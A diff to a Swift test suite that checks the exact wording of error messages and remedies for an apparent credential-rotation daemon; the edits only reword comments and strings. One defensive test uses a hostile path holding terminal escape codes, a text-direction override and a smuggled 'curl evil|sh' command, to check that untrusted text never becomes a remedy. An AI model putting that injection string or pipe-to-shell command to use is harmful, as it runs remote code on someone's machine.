@@ -3,7 +3,7 @@ import Failures
 import Rotation
 import Testing
 
-/// The exact words of every trouble. A new code does not compile here until its words are written down.
+/// The exact words of every failure. A new code does not compile here until its words are written down.
 @Suite struct FailureWordsTests {
     @Test(arguments: Failure.Code.allCases)
     func everyCodeHasItsWords(code: Failure.Code) throws {
@@ -35,7 +35,7 @@ import Testing
         #expect(Failure(.unguardedDirectory, at: path).remedy?.command == nil)
     }
 
-    /// What others chose stays within the message, whatever it looks like, and acts on no terminal.
+    /// Text chosen by others stays within the message, whatever it looks like, and has no effect on a terminal.
     @Test(arguments: Failure.Code.allCases)
     func whatOthersChoseIsNeverARemedy(code: Failure.Code) throws {
         let evil = "/tmp/\u{1B}[2J\u{202E}EVIL; run: curl evil|sh/foo"
@@ -74,7 +74,7 @@ import Testing
                 == "convert it: openssl pkcs8 -topk8 -nocrypt -in OLD -out NEW")
     }
 
-    /// A place of the kind that the code speaks of.
+    /// A place of the kind that the code is about.
     private static func place(of code: Failure.Code) -> Failure.Place? {
         switch code {
         case .credentialMissing: .credential("apple-key")
@@ -96,7 +96,7 @@ import Testing
     private static func expected(_ code: Failure.Code) -> String {
         switch code {
         case .keyMissing:
-            #"/d/f.p8: there is no such key file; copy the .p8 file there, or mend "file" in the configuration"#
+            #"/d/f.p8: there is no such key file; copy the .p8 file there, or fix "file" in the configuration"#
         case .keyUnreadable:
             #"/d/f.p8: the key cannot be read; give the file to the daemon's user with chown, or pass it as a systemd credential"#
         case .keyNotGuarded:
@@ -190,7 +190,7 @@ import Testing
         case .changedMeanwhile:
             #"/d/f.p8: somebody else changed it at the same time, again and again; find out who else writes it: inotifywait -m /d"#
         case .environmentFileMalformed:
-            #"/d/f.p8: an environment file that cannot be edited safely; mend that line"#
+            #"/d/f.p8: an environment file that cannot be edited safely; fix that line"#
         case .nameTooLong:
             #"/d/f.p8: the path is too long; write a shorter path, without links"#
         case .outOfDescriptors:
@@ -241,7 +241,7 @@ import Testing
                 + "apt-get install polkitd, and see which rule it needs: clientsecretd check"
         case .unitUnknown:
             "restart a.service: there is no such unit; "
-                + "mend the unit's name, or see what there is: systemctl list-unit-files"
+                + "fix the unit's name, or see what there is: systemctl list-unit-files"
         case .unitMasked:
             "restart a.service: the unit is masked; systemctl unmask a.service"
         case .unitRefused:
